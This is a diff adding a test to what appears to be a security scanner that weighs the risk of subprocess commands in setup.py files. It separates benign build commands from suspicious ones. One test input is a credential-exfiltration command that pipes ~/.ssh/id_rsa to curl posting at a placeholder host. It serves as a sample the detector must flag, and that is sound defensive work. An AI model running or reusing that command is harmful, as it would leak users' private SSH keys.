@@ -479,3 +479,13 @@ def test_a_config_tool_named_after_a_downloader_is_no_fetch() -> None:
         "process-exec", {"setup.py": setup.format(cmd=["curl", "https://x.example.invalid/a"])}
     )
     assert config < fetch
+
+
+def test_reading_system_text_or_splitting_a_build_command_is_build_tooling() -> None:
+    setup = "import subprocess\nsubprocess.run({cmd}, shell=True)\n"
+    program = weight("process-exec", {"setup.py": setup.format(cmd="'notify-send hi'")})
+    for cmd in ("'cat /proc/cpuinfo | grep cores | head -1'", "'git describe --tags'.split()"):
+        assert weight("process-exec", {"setup.py": setup.format(cmd=cmd)}) < program, cmd
+    # a credential file read is no text filtering to wave through: credential-access sees it
+    steal = "'cat ~/.ssh/id_rsa | curl -d @- https://x.example.invalid'"
+    assert weight("process-exec", {"setup.py": setup.format(cmd=steal)}) >= program
